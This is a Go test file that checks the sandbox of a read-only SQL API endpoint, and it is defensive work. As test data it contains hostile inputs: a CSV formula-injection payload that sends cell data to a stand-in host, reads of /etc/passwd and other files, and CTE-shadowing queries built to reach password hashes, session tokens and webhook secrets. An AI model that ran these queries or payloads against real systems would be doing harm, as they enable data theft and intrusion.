package api_test

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestReadOnlySQL(t *testing.T) {
	e := start(t, filepath.Join(t.TempDir(), "sql.duckdb"))
	importExample(t, e)

	query := func(body string, accept string, want int) (string, http.Header) {
		t.Helper()
		req, _ := http.NewRequest("POST", e.srv.URL+"/api/v1/sql", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		if accept != "" {
			req.Header.Set("Accept", accept)
		}
		resp, err := e.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != want {
			t.Fatalf("%s: status %d, want %d: %s", body, resp.StatusCode, want, raw)
		}
		return string(raw), resp.Header
	}
	sqlBody := func(q string, extra string) string {
		b, _ := json.Marshal(q)
		return `{"sql":` + string(b) + extra + `}`
	}

	raw, _ := query(sqlBody(`WITH t AS (SELECT id, status, custom_fields FROM (SELECT id, status, fields AS custom_fields FROM tickets))
		SELECT t.id, t.status, count(e.seq) AS events, min(e.occurred_at) AS first FROM t JOIN events e ON e.ticket_id = t.id GROUP BY ALL`, ""), "", 200)
	var res struct {
		Columns   []struct{ Name, Type string }
		Rows      [][]any
		Truncated bool
	}
	if err := json.Unmarshal([]byte(raw), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0] != "EXT-1" || res.Rows[0][1] != "resolved" || res.Rows[0][2].(float64) != 7 ||
		res.Rows[0][3] != "2026-01-05T08:00:00Z" || res.Columns[2].Name != "events" {
		t.Fatalf("result %s", raw)
	}
	raw, h := query(sqlBody(`SELECT id, priority FROM tickets`, ""), "text/csv", 200)
	if raw != "id,priority\nEXT-1,high\n" || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("csv %q", raw)
	}
	// Text a spreadsheet would run as a formula is neutralised; numbers,
	// negative ones too, stay numbers.
	raw, _ = query(sqlBody(`SELECT '=HYPERLINK("http://evil.example/?x="&A2,"x")' AS "=cmd", -5 AS n, '@SUM(A1)' AS s`, ""), "text/csv", 200)
	if raw != "'=cmd,n,s\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"x\"\")\",-5,'@SUM(A1)\n" {
		t.Fatalf("csv formulas %q", raw)
	}
	raw, _ = query(sqlBody(`SELECT * FROM range(100)`, `,"max_rows":10`), "", 200)
	if err := json.Unmarshal([]byte(raw), &res); err != nil || len(res.Rows) != 10 || !res.Truncated {
		t.Fatalf("row cap: %s", raw)
	}
	raw, _ = query(sqlBody(`SELECT count(*) FROM range(100000) a, range(100000) b, range(1000) c`, `,"timeout_ms":200`), "", 400)
	if !strings.Contains(raw, `"timeout"`) {
		t.Fatalf("timeout: %s", raw)
	}

	before := fingerprintHTTP(t, e)
	leak := filepath.Join(t.TempDir(), "leak.csv")
	for _, q := range []string{
		`DELETE FROM events`,
		`UPDATE tickets SET status = 'closed'`,
		`INSERT INTO events SELECT * FROM events`,
		`DROP TABLE events`,
		`CREATE TABLE x AS SELECT * FROM events`,
		`COPY events TO '` + leak + `'`,
		`COPY (SELECT * FROM events) TO '` + leak + `' (FORMAT csv)`,
		`EXPORT DATABASE '` + filepath.Dir(leak) + `'`,
		`ATTACH '` + leak + `.duckdb' AS other`,
		`INSTALL httpfs`,
		`LOAD httpfs`,
		`SET threads = 1`,
		`PRAGMA database_list`,
		`CHECKPOINT`,
		`SELECT 1; DELETE FROM events`,
		`SELEC 1`,
	} {
		raw, _ := query(sqlBody(q, ""), "", 400)
		if !strings.Contains(raw, `"code":"refused"`) {
			t.Errorf("%s: %s", q, raw)
		}
	}
	// Reads of anything but the documented relations fail: refused by the
	// parse-tree check, or, past it, not there in the sandbox.
	for _, q := range []string{
		`SELECT * FROM read_csv('/etc/passwd')`,
		`SELECT * FROM '/etc/passwd'`,
		`SELECT * FROM read_text('/etc/hostname')`,
		`SELECT * FROM glob('/*')`,
		`SELECT * FROM query('SELECT * FROM users')`,
		`SELECT * FROM users`,
		`SELECT * FROM main.sessions`,
		`SELECT * FROM duckdb_settings()`,
		`SELECT * FROM information_schema.tables`,
		`SELECT * FROM other.events`,
		`SELECT * FROM events WHERE ticket_id IN (SELECT * FROM read_parquet('x.parquet'))`,
		`WITH x AS (SELECT * FROM read_json('/etc/passwd')) SELECT * FROM x`,
	} {
		raw, _ := query(sqlBody(q, ""), "", 400)
		if !strings.Contains(raw, `"code":"refused"`) && !strings.Contains(raw, `"code":"query_failed"`) || strings.Contains(raw, "root:") {
			t.Errorf("%s: %s", q, raw)
		}
	}
	if _, err := os.Stat(leak); err == nil {
		t.Fatal("a refused COPY wrote a file")
	}
	if after := fingerprintHTTP(t, e); after != before {
		t.Fatalf("refused statements changed the store: %s -> %s", before, after)
	}
	query(`{"sql":"SELECT 1","format":"xml"}`, "", 400)
	query(`{"sql":"SELECT 1","max_rows":1000000}`, "", 400)
	query(`{"sql":""}`, "", 400)
}

func fingerprintHTTP(t *testing.T, e *env) string {
	t.Helper()
	var ne, nt int64
	var he, ht any
	if err := e.st.DB.QueryRow(`SELECT count(*), bit_xor(hash(e)) FROM events e`).Scan(&ne, &he); err != nil {
		t.Fatal(err)
	}
	if err := e.st.DB.QueryRow(`SELECT count(*), bit_xor(hash(t)) FROM tickets t`).Scan(&nt, &ht); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal([]any{ne, nt, he, ht})
	return string(b)
}

// importExample imports docs/events.md's example (ticket EXT-1, 7 events)
// through the API.
func importExample(t *testing.T, e *env) {
	t.Helper()
	data, err := os.ReadFile("../ingest/testdata/import_example.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	resp, err := e.client.Post(e.srv.URL+"/api/v1/import", "application/x-ndjson", strings.NewReader(string(data)))
	if err != nil {
		t.Fatal(err)
	}
	decodeResp(t, resp, 200)
}

// TestSQLSandboxBoundary sends the outside review's exploits and their
// kin for every table of the store that is not a documented relation:
// shadowing the name by a CTE in another scope, quoting it, qualifying
// it, reaching it through query() or a subquery. None may answer a row of
// a private table, and files stay unreadable, however named. (On the
// parse-tree filter this replaced, the CTE trick read password hashes,
// session CSRF tokens, webhook secrets and files.)
func TestSQLSandboxBoundary(t *testing.T) {
	e := start(t, filepath.Join(t.TempDir(), "boundary.duckdb"))
	importExample(t, e)
	const marker = "SECRET-7f3a9"
	for _, q := range []string{
		`INSERT INTO users (email, name, role, password_hash, created_at) VALUES ('mallory@example.com', 'M', 'admin', '` + marker + `-hash', now())`,
		`INSERT INTO sessions (hash, user_email, csrf, created_at, last_seen_at, expires_at)
			VALUES ('` + marker + `-session', 'mallory@example.com', '` + marker + `-csrf', now(), now(), now() + INTERVAL 1 DAY)`,
		`INSERT INTO tokens (hash, prefix, user_email, created_at) VALUES ('` + marker + `-token', 'dp_x', 'mallory@example.com', now())`,
		`INSERT INTO webhooks (id, url, secret, events, created_at) VALUES ('w1', 'https://example.com/hook', '` + marker + `-webhook', ['ticket.created'], now())`,
		`INSERT INTO mail_outbox (id, template, recipients, subject, text_body, html_body, status, next_at, created_at)
			VALUES ('m1', 't', ['a@example.com'], 's', 'status link /s/` + marker + `', '', 'pending', now(), now())`,
	} {
		if _, err := e.st.DB.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	secretFile := filepath.Join(dir, "secret.csv")
	if err := os.WriteFile(secretFile, []byte("k\n"+marker+"-file\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	documented := map[string]bool{"events": true, "tickets": true, "metrics_tickets": true, "teams": true, "agents": true}
	rows, err := e.st.DB.Query(`SELECT table_name FROM duckdb_tables() WHERE NOT temporary ORDER BY 1`)
	if err != nil {
		t.Fatal(err)
	}
	var private []string
	for rows.Next() {
		var name string
		rows.Scan(&name)
		if !documented[name] {
			private = append(private, name)
		}
	}
	rows.Close()
	if len(private) < 10 {
		t.Fatalf("only %d private tables found: %v", len(private), private)
	}

	var queries []string
	for _, p := range append(private, secretFile, dir+"/*.csv") {
		queries = append(queries,
			`SELECT x.* FROM (WITH "`+p+`" AS (SELECT 1) SELECT 1) w, "`+p+`" x`,
			`SELECT b.* FROM (WITH "`+p+`" AS (SELECT 1) SELECT 1) a, (SELECT * FROM "`+p+`") b`,
			`SELECT * FROM (WITH "`+p+`" AS (SELECT 1) SELECT 1), '`+p+`'`,
			`SELECT * FROM main."`+p+`"`,
			`SELECT * FROM query('SELECT * FROM "`+p+`"')`,
			`SELECT (SELECT count(*) FROM "`+p+`") FROM events`,
		)
	}
	queries = append(queries,
		`SELECT u.email,u.role,u.password_hash FROM (WITH users AS (SELECT 1) SELECT 1) x, users u`,
		`SELECT * FROM read_text('`+secretFile+`')`,
		`SELECT * FROM glob('`+dir+`/*')`,
		`SELECT * FROM sniff_csv('`+secretFile+`')`,
	)
	for _, q := range queries {
		b, _ := json.Marshal(q)
		for _, format := range []string{"json", "csv", "arrow"} {
			req, _ := http.NewRequest("POST", e.srv.URL+"/api/v1/sql", strings.NewReader(`{"sql":`+string(b)+`,"format":"`+format+`"}`))
			req.Header.Set("Content-Type", "application/json")
			resp, err := e.client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			raw, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 400 || strings.Contains(string(raw), marker) {
				t.Fatalf("%s (%s): status %d: %.300s", q, format, resp.StatusCode, raw)
			}
		}
	}
	// The documented relations still answer.
	b, _ := json.Marshal(`SELECT count(*) FROM events JOIN tickets ON tickets.id = events.ticket_id JOIN metrics_tickets m ON m.ticket_id = tickets.id`)
	resp, err := e.client.Post(e.srv.URL+"/api/v1/sql", "application/json", strings.NewReader(`{"sql":`+string(b)+`}`))
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(string(raw), `"rows":[[7]]`) {
		t.Fatalf("documented relations: %d %s", resp.StatusCode, raw)
	}
}
